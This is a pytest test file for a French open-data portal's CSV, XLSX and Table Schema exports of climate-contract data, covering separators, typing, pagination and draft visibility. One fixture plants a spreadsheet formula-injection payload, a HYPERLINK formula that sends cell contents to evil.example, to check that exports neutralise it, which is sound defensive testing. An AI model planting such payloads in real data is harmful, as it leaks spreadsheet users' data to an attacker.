"""Open-data exports of the API lists (contracts, targets, validated values, aggregates):
CSV (streamed, RFC 4180 or French dialect), XLSX, and the Table Schema describing
each file. A file holds every filtered row, never one page, and says the same as the
JSON API for the same filter."""

import csv
import io
import time
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from contracts.models import Contract, ContractStatus, ContractTheme, Target
from indicators.models import Aggregate, Indicator, IndicatorValue, ValueStatus
from kit.api import exports
from territories.models import Territory, TerritoryKind
from tests.api.conftest import token_client
from tests.contracts.factories import ContractFactory, TargetFactory, indicator

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TABLE_SCHEMA_TYPES = {
    "string",
    "number",
    "integer",
    "boolean",
    "object",
    "array",
    "date",
    "time",
    "datetime",
    "year",
    "yearmonth",
    "duration",
    "geopoint",
    "geojson",
    "any",
}
INDICATORS = ("cae_1.a", "cae_2.a", "cae_3.a", "cae_24.a", "cae_25.a", "tri_logements_renoves")
YEARS = range(2010, 2020)
ROWS = len(INDICATORS) * len(YEARS)  # 60: more than the default page of 50
VALIDATED_AT = datetime(2024, 7, 1, 8, 0, tzinfo=UTC)  # 10:00 in Paris (summer time)
# Text a reuser's spreadsheet must keep as text: separators, quotes, accents, line break.
TRICKY_TEXT = 'Observatoire « climat » ; données "brutes", v2\nrévisées'


# --- Building the data ------------------------------------------------------------


def validated_value(territory, indicator_, year, value, source="", status=ValueStatus.VALIDATED):
    return IndicatorValue(
        territory=territory,
        indicator=indicator_,
        year=year,
        value=Decimal(value),
        source=source,
        status=status,
        validated_at=VALIDATED_AT if status == ValueStatus.VALIDATED else None,
    )


def catalogue():
    return list(Indicator.objects.filter(identifier__in=INDICATORS).order_by("identifier"))


def public_contract(territory, reference, **fields):
    """An active contract with its cae_2.a target 1000 (2015) → 900 (2020), stored
    directly (the services also refresh the regional statistics: slow, not needed here)."""
    contract = ContractFactory(
        territory=territory,
        reference=reference,
        status=ContractStatus.ACTIVE,
        signed_on=date(2017, 10, 24),
        **fields,
    )
    TargetFactory(contract=contract)
    return contract


def departement(code):
    return Territory.objects.get(kind=TerritoryKind.DEPARTEMENT, code=code)


@pytest.fixture
def values_case(fourmies, grande_synthe):
    """60 validated values of Fourmies, plus values the filter or the status excludes
    (the derived indicators computed from them too: test_derived_values.py)."""
    indicators = catalogue()
    rows = [
        validated_value(fourmies, ind, year, Decimal(1000 + year) + Decimal("0.25"), TRICKY_TEXT)
        for ind in indicators
        for year in YEARS
    ]
    rows += [validated_value(grande_synthe, ind, 2015, "12") for ind in indicators]
    rows += [
        validated_value(fourmies, indicators[0], 2015, "999999", status=status)
        for status in (ValueStatus.DRAFT, ValueStatus.SUBMITTED, ValueStatus.SUPERSEDED)
    ]
    IndicatorValue.objects.bulk_create(rows)
    return {"territory_code": "59249", "indicator": ",".join(INDICATORS)}


@pytest.fixture
def aggregates_case(db):
    """60 aggregates of the Nord, some without value or with conflicts, plus the Pas-de-Calais."""
    nord, pas_de_calais = departement("59"), departement("62")
    rows = [
        Aggregate(
            scope=nord,
            indicator=ind,
            year=year,
            value=None if year == 2010 else Decimal("12345.678") + year,
            covered_population=2_600_000 + year,
            contributors=40 + position,
            conflicts=[{"territory": position}] * (year % 3),
            computed_at=VALIDATED_AT,
        )
        for position, ind in enumerate(catalogue())
        for year in YEARS
    ]
    rows += [
        Aggregate(scope=pas_de_calais, indicator=ind, year=2015, value=1, computed_at=VALIDATED_AT)
        for ind in catalogue()
    ]
    Aggregate.objects.bulk_create(rows)
    return {"scope_code": "59"}


@pytest.fixture
def contracts_case(db):
    """60 public contracts signed in 2018 (some with themes), 3 signed in 2019 and a draft."""
    communes = list(
        Territory.objects.filter(kind=TerritoryKind.COMMUNE, code__startswith="59").order_by(
            "code"
        )[:64]
    )
    public = [ContractStatus.SIGNED, ContractStatus.ACTIVE, ContractStatus.COMPLETED]
    contracts = [
        Contract(
            territory=commune,
            reference=f"COTRI-{commune.code}",
            title=f"Contrat TRI de {commune.name} — {TRICKY_TEXT}",
            status=public[position % 3],
            signed_on=date(2018 if position < ROWS else 2019, 3, 1 + position % 28),
            start_date=date(2018, 4, 1),
            end_date=date(2021, 3, 31),
        )
        for position, commune in enumerate(communes[:63])
    ]
    contracts.append(
        Contract(
            territory=communes[63],
            reference="COTRI-BROUILLON",
            title="Contrat en préparation",
            start_date=date(2018, 4, 1),
            end_date=date(2021, 3, 31),
        )
    )
    contracts = Contract.objects.bulk_create(contracts)
    themes = list(ContractTheme.objects.order_by("slug")[:2])
    for contract in contracts[:10]:
        contract.themes.set(themes)
    return {"signed_year": "2018"}


@pytest.fixture
def targets_case(grande_synthe, fourmies):
    """60 targets of one active Fourmies contract, with validated values for progress
    (achievement 0.5), plus the targets of another contract."""
    public_contract(grande_synthe, "COTRI-GRANDE-SYNTHE")
    contract = ContractFactory(
        reference="COTRI-OBJECTIFS", status=ContractStatus.ACTIVE, signed_on=date(2017, 10, 24)
    )
    indicators = catalogue()
    Target.objects.bulk_create(
        Target(
            contract=contract,
            indicator=ind,
            baseline_year=2015,
            baseline_value=Decimal(1000),
            target_year=target_year,
            target_value=Decimal("900.5") if ind.identifier == "cae_2.a" else Decimal(900),
        )
        for ind in indicators
        for target_year in range(2021, 2031)
    )
    IndicatorValue.objects.bulk_create(
        validated_value(fourmies, ind, 2018, "950.25" if ind.identifier == "cae_2.a" else "950")
        for ind in indicators
    )
    return {"contract": str(contract.pk)}


# --- Each dataset: where it is, how its JSON rows read as file rows ------------------


def flat_contract(item):
    territory = item["territory"]
    return {
        **{k: item[k] for k in ("id", "reference", "status", "title")},
        "territory_kind": territory["kind"],
        "territory_code": territory["code"],
        "territory_siren": territory["siren"],
        "territory_siren_official": territory["siren_is_official"],
        "territory_name": territory["name"],
        **{k: item[k] for k in ("signed_on", "start_date", "end_date")},
        "themes": "|".join(item["themes"]),
        "is_demo": item["is_demo"],
    }


def flat_target(item):
    territory, progress = item["territory"], item["progress"]
    return {
        **{k: item[k] for k in ("id", "contract", "contract_reference")},
        "territory_code": territory["code"],
        "territory_siren": territory["siren"],
        "territory_siren_official": territory["siren_is_official"],
        "territory_name": territory["name"],
        **{
            k: item[k]
            for k in (
                "indicator",
                "unit",
                "baseline_year",
                "baseline_value",
                "target_year",
                "target_value",
            )
        },
        **{k: progress[k] for k in ("latest_year", "latest_value", "achievement", "status")},
        **{k: item[k] for k in ("alignment", "committed_pace", "required_pace", "alignment_gap")},
        "is_demo": item["is_demo"],
    }


@dataclass(frozen=True)
class Case:
    endpoint: str
    schema: str
    fixture: str
    flatten: object = dict

    @property
    def url(self):
        return f"/api/v1/{self.endpoint}/"

    def __str__(self):
        return self.endpoint


CASES = [
    Case("contracts", "contrats", "contracts_case", flat_contract),
    Case("targets", "objectifs", "targets_case", flat_target),
    Case("values", "valeurs-validees", "values_case"),
    Case("aggregates", "agregats", "aggregates_case"),
]


@pytest.fixture(params=CASES, ids=str)
def case(request, db):
    """(dataset, filter selecting ROWS rows) — the data is built for each dataset."""
    return request.param, request.getfixturevalue(request.param.fixture)


# --- Reading the files ------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def read_csv(response, delimiter=","):
    text = body(response).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    rows = list(sheet.iter_rows())
    return [cell.value for cell in rows[0]], rows[1:]


def typed(value, field_type):
    """A CSV cell or a JSON value as the Python value its Table Schema type means."""
    if value is None or value == "":
        return None
    text = str(value)
    if field_type == "integer":
        return int(text)
    if field_type == "number":
        return Decimal(text)
    if field_type == "boolean":
        return text.lower() == "true"
    if field_type == "date":
        return date.fromisoformat(text)
    if field_type == "datetime":
        parsed = datetime.fromisoformat(text)
        assert parsed.tzinfo is not None, f"{text} sans fuseau"
        return parsed
    return text


def export(client, case_, query, fmt="csv", **params):
    return client.get(case_.url, {**query, "format": fmt, **params})


def table_schema(client, name):
    response = client.get(f"/api/v1/table-schemas/{name}.json")
    assert response.status_code == 200
    return response.json()


# --- CSV --------------------------------------------------------------------------


def test_csv_export_is_a_streamed_dated_attachment_of_every_filtered_row(anonymous_api, case):
    dataset, query = case
    page = anonymous_api.get(dataset.url, query).json()

    response = export(anonymous_api, dataset, query, page=2, page_size=10)

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="{dataset.schema}-{today}.csv"'
    )
    assert (page["count"], len(page["results"])) == (ROWS, 50)
    assert len(read_csv(response)[1]) == ROWS


def test_csv_rows_say_what_the_json_api_says(anonymous_api, case):
    dataset, query = case
    types = {f["name"]: f["type"] for f in table_schema(anonymous_api, dataset.schema)["fields"]}
    results = anonymous_api.get(dataset.url, {**query, "page_size": 1000}).json()["results"]

    _, rows = read_csv(export(anonymous_api, dataset, query))

    from_json = [
        {name: typed(value, types[name]) for name, value in dataset.flatten(item).items()}
        for item in results
    ]
    from_csv = [{name: typed(cell, types[name]) for name, cell in row.items()} for row in rows]
    assert from_csv == from_json


def test_default_csv_is_comma_separated_with_decimal_point_and_no_bom(anonymous_api, values_case):
    response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "csv"})

    content = body(response)
    assert content.startswith(b"id,territory,territory_kind,")
    assert not content.startswith(b"\xef\xbb\xbf")
    _, rows = read_csv_bytes(content, ",")
    assert rows[0]["value"] == "3010.25"
    assert rows[0]["validated_at"] == "2024-07-01T10:00:00+02:00"
    # Separators, quotes and line breaks inside a text come back unchanged.
    assert {row["source"] for row in rows} == {TRICKY_TEXT}


def read_csv_bytes(content, delimiter):
    rows = list(
        csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    )
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("sep", [";", "semicolon"])
def test_french_csv_has_semicolons_decimal_comma_and_a_bom(anonymous_api, values_case, sep):
    response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "csv", "sep": sep})

    content = body(response)
    assert response.status_code == 200
    assert content.startswith(b"\xef\xbb\xbfid;territory;territory_kind;")
    header, rows = read_csv_bytes(content, ";")
    assert header == exports_header("valeurs-validees")
    assert len(rows) == ROWS
    assert rows[0]["value"] == "3010,25"
    assert rows[0]["year"] == "2010"
    assert rows[0]["source"] == TRICKY_TEXT


def exports_header(name):
    from tri_portal.api.views import DATASETS

    return DATASETS[name].header


@pytest.mark.parametrize("sep", ["x", "tab"])
def test_unknown_separator_is_refused_in_french(anonymous_api, values_case, sep):
    response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "csv", "sep": sep})

    assert response.status_code == 400
    assert response.json()["errors"] == {"sep": ["Séparateur inconnu : choisissez « , » ou « ; »."]}


def test_unknown_format_is_refused_in_french(anonymous_api, values_case):
    response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "pdf"})

    assert response.status_code == 400
    assert response.json()["errors"] == {
        "format": ["Format inconnu : choisissez json, csv ou xlsx."]
    }


# --- XLSX -------------------------------------------------------------------------


def test_xlsx_export_is_a_dated_attachment_of_every_filtered_row_in_typed_cells(
    anonymous_api, case
):
    dataset, query = case
    schema = table_schema(anonymous_api, dataset.schema)

    response = export(anonymous_api, dataset, query, "xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_MEDIA_TYPE
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="{dataset.schema}-{today}.xlsx"'
    )
    header, rows = read_xlsx(response)
    assert header == [field["name"] for field in schema["fields"]]
    assert len(rows) == ROWS
    for field, cells in zip(schema["fields"], zip(*rows, strict=True), strict=True):
        filled = [cell for cell in cells if cell.value is not None]
        assert filled or not field.get("constraints", {}).get("required"), field["name"]
        for cell in filled:
            if field["type"] in ("integer", "number"):
                assert cell.data_type == "n", (field["name"], cell.value)
                assert isinstance(cell.value, int | float), (field["name"], cell.value)
            elif field["type"] in ("date", "datetime"):
                assert isinstance(cell.value, datetime), (field["name"], cell.value)
                assert cell.value.tzinfo is None
            elif field["type"] == "boolean":
                assert cell.data_type == "b", (field["name"], cell.value)
            else:
                assert cell.data_type == "s", (field["name"], cell.value)


def test_xlsx_values_are_numbers_and_naive_local_datetimes(anonymous_api, values_case):
    response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "xlsx"})

    header, rows = read_xlsx(response)
    first = {name: cell.value for name, cell in zip(header, rows[0], strict=True)}
    assert first["year"] == 2010
    assert first["value"] == pytest.approx(3010.25)
    assert first["source"] == TRICKY_TEXT
    assert first["territory_code"] == "59249"
    # 08:00 UTC is 10:00 in Paris: what a reader in France expects, without offset.
    assert abs(first["validated_at"] - datetime(2024, 7, 1, 10, 0)) < timedelta(milliseconds=1)


def test_xlsx_refuses_more_rows_than_a_worksheet_holds(anonymous_api, values_case, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", ROWS - 1)

    response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "xlsx"})

    assert response.status_code == 400
    assert response.json()["errors"] == {
        "format": [
            "Trop de lignes pour un classeur XLSX (plus d'un million) : "
            "filtrez davantage ou téléchargez le CSV."
        ]
    }
    csv_response = anonymous_api.get("/api/v1/values/", {**values_case, "format": "csv"})
    assert len(read_csv(csv_response)[1]) == ROWS


# --- Spreadsheet formula injection -------------------------------------------------

TRIGGERS = ["=", "+", "@"]


@pytest.fixture
def hostile_text(fourmies):
    """A payload starting with ``trigger`` in a value source, a territory name and a
    contract title; and a negative value (stored directly: the forms refuse it)."""

    contract = public_contract(fourmies, "COTRI-FOURMIES")

    def make(trigger):
        payload = f'{trigger}HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
        Territory.objects.filter(pk=fourmies.pk).update(name=payload)
        Contract.objects.filter(pk=contract.pk).update(title=payload)
        IndicatorValue.objects.bulk_create(
            [
                validated_value(fourmies, indicator("cae_2.a"), 2018, "-12.5", payload),
                validated_value(fourmies, indicator("cae_1.a"), 2018, "7", "INSEE"),
            ]
        )
        return payload

    return make


def exported(client, fmt, sep=","):
    query = {"territory_code": "59249", "format": fmt, "sep": sep}
    return (
        # The values entered (not those computed from them, whose source is their formula).
        client.get("/api/v1/values/", {**query, "indicator": "cae_1.a,cae_2.a"}),
        client.get("/api/v1/contracts/", query),
    )


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_text_that_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(
    anonymous_api, hostile_text, trigger
):
    payload = hostile_text(trigger)

    values, contracts = (read_csv(response)[1] for response in exported(anonymous_api, "csv"))

    by_indicator = {row["indicator"]: row for row in values}
    assert by_indicator["cae_2.a"]["source"] == "'" + payload
    assert {row["territory_name"] for row in values} == {"'" + payload}
    assert by_indicator["cae_1.a"]["source"] == "INSEE"
    assert [(row["title"], row["territory_name"]) for row in contracts] == [
        ("'" + payload, "'" + payload)
    ]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_xlsx_text_that_a_spreadsheet_would_run_stays_a_string_cell(
    anonymous_api, hostile_text, trigger
):
    payload = hostile_text(trigger)

    for response in exported(anonymous_api, "xlsx"):
        header, rows = read_xlsx(response)
        text_cells = [
            cell
            for row in rows
            for name, cell in zip(header, row, strict=True)
            if name in ("source", "territory_name", "title") and cell.value != "INSEE"
        ]
        assert text_cells
        assert {cell.value for cell in text_cells} == {payload}
        assert {cell.data_type for cell in text_cells} == {"s"}


@pytest.mark.parametrize(("sep", "expected"), [(",", "-12.5"), (";", "-12,5")])
def test_csv_negative_numbers_stay_numbers(anonymous_api, hostile_text, sep, expected):
    hostile_text("=")

    response, _ = exported(anonymous_api, "csv", sep)

    _, rows = read_csv_bytes(body(response), sep)
    assert {row["indicator"]: row["value"] for row in rows}["cae_2.a"] == expected


def test_xlsx_negative_numbers_stay_numeric_cells(anonymous_api, hostile_text):
    hostile_text("=")

    response, _ = exported(anonymous_api, "xlsx")

    header, rows = read_xlsx(response)
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    value = next(row["value"] for row in cells if row["indicator"].value == "cae_2.a")
    assert (value.value, value.data_type) == (-12.5, "n")


def test_xlsx_export_survives_control_characters_in_text(anonymous_api, fourmies):
    IndicatorValue.objects.bulk_create(
        [validated_value(fourmies, indicator("cae_2.a"), 2018, "950", "Observatoire\x0bclimat")]
    )

    response = anonymous_api.get("/api/v1/values/", {"territory_code": "59249", "format": "xlsx"})

    assert response.status_code == 200
    header, rows = read_xlsx(response)
    assert rows[0][header.index("source")].value == "Observatoireclimat"


# --- Table Schemas ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["contrats", "objectifs", "valeurs-validees", "agregats"])
def test_table_schema_describes_the_csv_columns(anonymous_api, name):
    schema = table_schema(anonymous_api, name)

    assert schema["name"] == name
    assert schema["title"]
    names = [field["name"] for field in schema["fields"]]
    assert names == exports_header(name)
    assert len(set(names)) == len(names)
    for field in schema["fields"]:
        assert field["title"], field
        assert field["type"] in TABLE_SCHEMA_TYPES, field
    # A validated value is one per territory, indicator and year (a derived one has no id).
    keys = {"valeurs-validees": ["territory", "indicator", "year"]}
    assert schema["primaryKey"] == keys.get(name, ["id"])
    assert set(schema["primaryKey"]) <= set(names)


@pytest.mark.parametrize("name", ["inconnu", "contracts"])
def test_unknown_table_schema_is_not_found(anonymous_api, name):
    response = anonymous_api.get(f"/api/v1/table-schemas/{name}.json")

    assert response.status_code == 404


def test_csv_is_valid_against_its_table_schema(anonymous_api, case):
    dataset, query = case
    schema = table_schema(anonymous_api, dataset.schema)

    header, rows = read_csv(export(anonymous_api, dataset, query))

    assert header == [field["name"] for field in schema["fields"]]
    for row in rows:
        for field in schema["fields"]:
            cell = row[field["name"]]
            if field.get("constraints", {}).get("required"):
                assert cell != "", (field["name"], row)
            if cell in schema.get("missingValues", [""]):
                continue
            value = typed(cell, field["type"])
            if field["type"] == "integer":
                assert str(value) == cell
            if field["type"] == "number":
                assert value.is_finite()
                assert "e" not in cell.lower(), cell
    keys = [tuple(row[key] for key in schema["primaryKey"]) for row in rows]
    assert len(set(keys)) == len(keys)


# --- Only what may be published ----------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_only_validated_values_are_exported(anonymous_api, values_case, fmt):
    response = anonymous_api.get("/api/v1/values/", {"format": fmt})

    if fmt == "csv":
        rows = read_csv(response)[1]
        values = [Decimal(row["value"]) for row in rows if row["derived"] == "false"]
    else:
        header, rows = read_xlsx(response)
        values = [
            Decimal(str(row[header.index("value")].value))
            for row in rows
            if row[header.index("derived")].value is False
        ]
    assert len(values) == ROWS + len(INDICATORS)  # Fourmies' and Grande-Synthe's
    assert Decimal("999999") not in values  # the draft, submitted and superseded ones


@pytest.fixture
def draft_contract(fourmies, grande_synthe):
    """Fourmies and Grande-Synthe have an active contract; Fourmies prepares a draft one."""
    public_contract(fourmies, "COTRI-FOURMIES")
    public_contract(grande_synthe, "COTRI-GRANDE-SYNTHE")
    draft = ContractFactory(reference="COTRI-FOURMIES-BROUILLON")
    TargetFactory(contract=draft, indicator=indicator("cae_1.a"))
    return draft


@pytest.mark.parametrize(
    ("who", "sees_draft"),
    [("anonymous", False), ("officer_b", False), ("officer_a", True), ("staff", True)],
)
def test_draft_contract_and_its_targets_are_exported_only_to_those_who_work_on_it(
    request, draft_contract, who, sees_draft
):
    client = (
        request.getfixturevalue("anonymous_api")
        if who == "anonymous"
        else token_client(request.getfixturevalue(who))
    )

    _, contracts = read_csv(client.get("/api/v1/contracts/", {"format": "csv"}))
    _, targets = read_csv(client.get("/api/v1/targets/", {"format": "csv"}))

    expected = {"COTRI-FOURMIES", "COTRI-GRANDE-SYNTHE"}
    if sees_draft:
        expected.add("COTRI-FOURMIES-BROUILLON")
    assert {row["reference"] for row in contracts} == expected
    assert {row["contract_reference"] for row in targets} == expected


def test_anonymous_xlsx_of_contracts_has_no_draft(anonymous_api, draft_contract):
    header, rows = read_xlsx(anonymous_api.get("/api/v1/contracts/", {"format": "xlsx"}))

    references = [row[header.index("reference")].value for row in rows]
    assert sorted(references) == ["COTRI-FOURMIES", "COTRI-GRANDE-SYNTHE"]


def test_targets_csv_rounds_achievement_like_the_json_api(anonymous_api, fourmies):
    contract = public_contract(fourmies, "COTRI-FOURMIES")
    TargetFactory(contract=contract, indicator=indicator("cae_1.a"), target_value=700)
    # 1000 → 700, reached 900: a third of the way, not a terminating decimal.
    IndicatorValue.objects.bulk_create(
        [validated_value(fourmies, indicator("cae_1.a"), 2018, "900")]
    )
    query = {"contract": contract.pk, "indicator": "cae_1.a"}
    item = anonymous_api.get("/api/v1/targets/", query).json()["results"][0]

    _, rows = read_csv(anonymous_api.get("/api/v1/targets/", {**query, "format": "csv"}))

    assert item["progress"]["achievement"] == "0.3333"
    assert rows[0]["achievement"] == item["progress"]["achievement"]


# --- Volume (PostgreSQL) -----------------------------------------------------------


@pytest.mark.postgres
def test_csv_export_of_ten_thousand_values_is_streamed(db, anonymous_api):
    indicators = catalogue()[:4]
    other = catalogue()[4]
    communes = list(Territory.objects.filter(kind=TerritoryKind.COMMUNE).order_by("code")[:250])
    rows = [
        validated_value(commune, ind, year, Decimal(year) + Decimal("0.5"), "Observatoire")
        for commune in communes
        for ind in indicators
        for year in YEARS
    ]
    # Outside the filter: another indicator, an earlier year, and unpublished values.
    rows += [validated_value(commune, other, 2015, "1") for commune in communes]
    rows += [validated_value(commune, indicators[0], 2009, "1") for commune in communes]
    rows += [
        validated_value(commune, indicators[0], 2015, "1", status=ValueStatus.SUBMITTED)
        for commune in communes
    ]
    IndicatorValue.objects.bulk_create(rows, batch_size=5000)
    query = {
        "indicator": ",".join(ind.identifier for ind in indicators),
        "territory_kind": "commune",
        "year_min": "2010",
        "year_max": "2019",
        "format": "csv",
    }

    started = time.perf_counter()
    response = anonymous_api.get("/api/v1/values/", query)
    _, lines = read_csv(response)
    elapsed = time.perf_counter() - started

    print(f"\nExport CSV de 10 000 valeurs validées : {elapsed:.2f} s")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert len(lines) == 10_000
    assert {line["year"] for line in lines} == {str(year) for year in YEARS}
    assert {line["indicator"] for line in lines} == {ind.identifier for ind in indicators}
